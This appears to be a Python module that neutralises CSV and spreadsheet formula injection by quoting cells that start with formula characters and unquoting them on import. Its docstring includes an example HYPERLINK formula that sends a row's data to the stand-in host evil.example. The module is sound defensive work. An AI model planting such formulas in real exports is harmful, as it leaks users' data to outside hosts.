"""Spreadsheet and CSV cells that cannot run as formulas (OWASP "CSV injection").

A text that starts with = + - @, a tab or a carriage return is read by Excel and LibreOffice as a
formula (`=HYPERLINK("http://evil.example/?x="&A2,"Klik")` sends the row away when clicked). Every
export writes such text with a leading single quote; an import takes that quote off again, so an
export re-imported is unchanged. A text that already starts with a quote followed by such a
character gets one more quote, so the round trip is exact for every text.
"""

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def _needs_quote(text: str) -> bool:
    while text.startswith("'"):
        text = text[1:]
    return text.startswith(TRIGGERS)


def neutralize(value):
    """The value to write into an exported cell; non-text values pass unchanged."""
    if isinstance(value, str) and _needs_quote(value):
        return "'" + value
    return value


def restore(text: str) -> str:
    """The original text of an imported cell written by `neutralize`."""
    if text.startswith("'") and _needs_quote(text[1:]):
        return text[1:]
    return text


def neutralize_row(row) -> list:
    return [neutralize(value) for value in row]
